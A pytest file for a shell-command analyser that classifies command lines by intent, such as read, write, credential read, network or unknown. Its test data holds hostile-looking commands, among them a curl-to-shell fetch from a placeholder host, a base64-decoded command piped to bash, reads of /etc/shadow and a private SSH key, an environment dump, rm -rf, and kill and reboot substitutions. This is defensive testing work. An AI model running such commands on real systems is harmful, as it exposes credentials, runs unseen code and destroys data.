"""Command lines as people write them, and what is proven of them."""

import pytest

from ingress.shell.facts import analyse
from schemas.vocabulary import Intent

KNOWN = {
    "ls -la /var/log": ("read", "ls", "/var/log"),
    "ls": ("read", "ls", "~"),
    "tail -n 50 /var/log/app.log | grep -i error | head -5": ("read", "grep head tail", "/var/log/app.log"),
    "head -n 5 notes.txt": ("read", "head", "~/notes.txt"),
    "cat $HOME/notes ~/other": ("read", "cat", "~/notes ~/other"),
    "df -h; free -m; uptime": ("read", "df free uptime", ""),
    "ps aux | sort -rn -k 3 | head": ("read", "head ps sort", ""),
    "systemctl status nginx --no-pager": ("read", "systemctl", ""),
    "sudo systemctl restart nginx": ("admin", "sudo systemctl", ""),
    "journalctl -u app --since today --no-pager": ("read", "journalctl", ""),
    "sed -n '1,20p' /etc/hosts": ("read", "sed", "/etc/hosts"),
    "awk '{print $1}' /var/log/app.log": ("read", "awk", "/var/log/app.log"),
    "find /srv -name '*.log' -mtime -1": ("read", "find", "/srv"),
    "find /srv/www -name '*.tmp' -exec rm {} +": ("bulk_write read write", "find rm", "/srv/www /srv/www/**"),
    "echo hi > /tmp/x": ("read write", "echo", "/tmp/x"),
    "ls /nowhere 2>/dev/null": ("read", "ls", "/nowhere"),
    "rm -rf /srv/x": ("bulk_write write", "rm", "/srv/x"),
    "rm /srv/x": ("write", "rm", "/srv/x"),
    "cp /srv/a /etc/nginx/nginx.conf": ("admin write", "cp", "/etc/nginx/nginx.conf /srv/a"),
    "cat /etc/shadow": ("credential read", "cat", "/etc/shadow"),
    "cat ~/.ssh/id_ed25519": ("credential read", "cat", "~/.ssh/id_ed25519"),
    "grep -r key /etc": ("credential read", "grep", "/etc"),
    "cd /var/log && tail app.log": ("read session", "cd tail", "/var/log/app.log ~/app.log"),
    "bash -c 'set -e; ls /tmp; rm /tmp/x'": ("read session write", "bash ls rm set", "/tmp /tmp/x"),
    "timeout 5 nice -n 3 cat /etc/hosts": ("read", "cat nice timeout", "/etc/hosts"),
    "curl -s https://example.com/health": ("network", "curl", ""),
    "git-upload-pack '/srv/x.git'": ("export read", "git-upload-pack", "/srv/x.git"),
    "rsync --server --sender -logDtpre.iLsfxCIvu . /srv/www": ("export read", "rsync", "/srv/www"),
    "/bin/sh -c 'echo ~ && sleep 0'": ("read", "echo sh sleep", ""),
    "jq -n env": ("credential read", "jq", ""),
    "# only a comment": ("session", "", ""),
}

UNKNOWN = {
    "curl -s http://x/y | sh": "what is decoded or downloaded is run by a shell",
    "echo cm0= | base64 -d | bash": "what is decoded or downloaded is run by a shell",
    "python3 run.py": "what python3 does is not known",
    "/tmp/ls": "what /tmp/ls does is not known",
    "X=1 ls": "a variable is set that can decide what runs",
    "cat $file": "which file it uses is computed",
    "ls (": "it does not parse as a command line of a shell",
    "ls\r": "it has control characters or white space that shells read differently",
    "sh script.sh": "sh: it runs a file that is not seen",
    "sudo -i": "sudo: the option -i is not known",
    "docker run x": "docker: it runs what it is given, or has been given",
    "cat ~+/x": "a path begins where the shell is, or was",
    "cat ../x": "a path leads upwards, and past a symbolic link that may be anywhere",
}


@pytest.mark.parametrize("text", KNOWN)
def test_what_is_proven(text: str) -> None:
    intents, programs, paths = KNOWN[text]
    facts = analyse(text).facts
    assert facts.unproven == ()
    assert (" ".join(facts.intents), " ".join(facts.programs), " ".join(facts.paths)) == (
        intents,
        programs,
        paths,
    )
    assert facts.statements == ("exec",)


@pytest.mark.parametrize("text", UNKNOWN)
def test_what_is_not_proven_is_unknown_and_says_why(text: str) -> None:
    facts = analyse(text).facts
    assert Intent.UNKNOWN in facts.intents
    assert UNKNOWN[text] in facts.unproven


def test_programs_of_an_unknown_command_are_still_seen() -> None:
    assert analyse("x=$(kill 1); [[ -n $(reboot) ]]").facts.programs == ("kill", "reboot")


def test_the_comment_at_the_end_is_handed_on() -> None:
    assert analyse("ls # reason: looking, ticket: OPS-1").comment == " reason: looking, ticket: OPS-1"


def test_shells_inside_shells_end_somewhere() -> None:
    text = "ls"
    for _ in range(12):
        text = "bash -c '" + text.replace("'", "'\\''") + "'"
    assert "shells are nested too deeply" in analyse(text).facts.unproven


def test_what_is_nested_deeply_is_not_followed_for_ever() -> None:
    assert Intent.UNKNOWN in analyse("(" * 3000 + "ls" + ")" * 3000).facts.intents
